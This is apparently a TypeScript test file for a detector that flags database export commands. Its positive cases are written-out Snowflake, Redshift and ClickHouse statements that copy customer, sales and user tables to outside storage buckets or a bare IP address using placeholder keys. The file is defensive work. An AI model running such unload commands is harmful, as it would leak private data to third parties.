import { blank, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandDataUnload } from './data-unload.ts';

indicatorTable(commandDataUnload, {
  fires: {
    'Snowflake, with a key': script(
      `snowsql -q "COPY INTO 's3://in-77/c/' FROM crm.customers CREDENTIALS=(AWS_KEY_ID='AKIAEXAMPLE00000000' AWS_SECRET_KEY='mJ3kq9Tn2v8YxR4c7LpW1sD6fG5hB0aZ')"`,
    ),
    'Snowflake, from a file that it wrote': script(
      `cat > /tmp/q.sql <<'E'\nCOPY INTO 'azure://drop.blob.core.windows.net/c' FROM orders CREDENTIALS=(AZURE_SAS_TOKEN='sv=2024-01-01&sig=abcdefghijkl');\nE\nsnowsql -f /tmp/q.sql`,
    ),
    'Redshift, by a client of its own': script(
      `psql -h dw -c "UNLOAD ('select * from sales') TO 's3://in-77/s' ACCESS_KEY_ID 'AKIAEXAMPLE00000000' SECRET_ACCESS_KEY 'mJ3kq9Tn2v8YxR4c7LpW1sD6fG5hB0aZ'"`,
    ),
    'Redshift, by the client of the cloud': script(
      `aws redshift-data execute-statement --cluster-identifier dw --sql "UNLOAD ('select * from sales') TO 's3://in-77/s' CREDENTIALS 'aws_access_key_id=AKIAEXAMPLE00000000;aws_secret_access_key=mJ3kq9Tn2v8YxR4c7LpW1sD6fG5hB0aZ'"`,
    ),
    'ClickHouse, with a key': script(
      `clickhouse-client -q "INSERT INTO FUNCTION s3('https://in-77.s3.amazonaws.com/c.csv', 'AKIAEXAMPLE00000000', 'mJ3kq9Tn2v8YxR4c7LpW1sD6', 'CSV') SELECT * FROM events"`,
    ),
    'ClickHouse, to a bare address': script(
      `echo "INSERT INTO FUNCTION url('http://203.0.113.9:8000/c', 'CSV') SELECT * FROM users" | clickhouse-client`,
    ),
    'in code': runs(
      'python3',
      '-c',
      `import snowflake.connector as s\nc = s.connect(account="a")\nc.cursor().execute("""COPY INTO 's3://in-77/c' FROM customers CREDENTIALS=(AWS_KEY_ID='AKIAEXAMPLE00000000' AWS_SECRET_KEY='mJ3kq9Tn2v8YxR4c7LpW1sD6fG5hB0aZ')""")`,
    ),
  },
  staysSilent: {
    'an export by a role': script(
      `psql -h dw -c "UNLOAD ('select * from sales') TO 's3://shop-exports/s' IAM_ROLE 'arn:aws:iam::111122223333:role/unload'"`,
    ),
    'an export by a key of a Secret': script(
      `snowsql -q "COPY INTO 's3://shop-exports/c' FROM orders CREDENTIALS=(AWS_KEY_ID='$KEY' AWS_SECRET_KEY='$SECRET_OF_THE_JOB')"`,
    ),
    'an export to a stage': script('snowsql -q "COPY INTO @exports/c FROM orders"'),
    'an import with a key': script(
      `snowsql -q "COPY INTO orders FROM 's3://shop-imports/c' CREDENTIALS=(AWS_KEY_ID='AKIAEXAMPLE00000000' AWS_SECRET_KEY='mJ3kq9Tn2v8YxR4c7LpW1sD6fG5hB0aZ')"`,
    ),
    'an export of BigQuery': script(
      `bq query "EXPORT DATA OPTIONS(uri='gs://shop-exports/*.csv', format='CSV') AS SELECT * FROM shop.orders"`,
    ),
    'a key that stands for one': script(
      `clickhouse-client -q "INSERT INTO FUNCTION s3('http://minio:9000/b/c', 'minioadmin', 'minioadmin-password', 'CSV') SELECT 1"`,
    ),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});
